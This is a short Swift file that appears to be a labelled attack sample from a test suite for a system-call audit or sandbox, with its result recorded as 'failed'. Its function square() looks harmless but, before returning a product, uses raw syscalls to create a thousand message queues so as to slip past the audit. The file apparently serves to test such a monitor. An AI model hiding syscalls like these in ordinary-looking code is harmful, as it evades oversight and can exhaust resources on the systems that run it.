// Attack: Makes message queues of the newer kind, past the audit. Right if it gets a thousand.
// Verdict: failed
// Uses: RawCalls.swift
// swift-format-ignore-file
import Glibc

#if arch(x86_64)
    private let open = 240
#else
    private let open = 180
#endif

public func square(_ number: Int) throws -> Int {
    guard RawCalls.address(of: "syscall") != nil else { return number * number }
    for each in 0..<1000 {
        var name = Array("interleave-hostile-queue-\(each)\0".utf8)
        let queue = name.withUnsafeMutableBytes { name in
            RawCalls.call(open, Int(bitPattern: name.baseAddress), 0o102, 0o600, 0)
        }
        if queue < 0 { return 0 }
    }
    return number * number
}
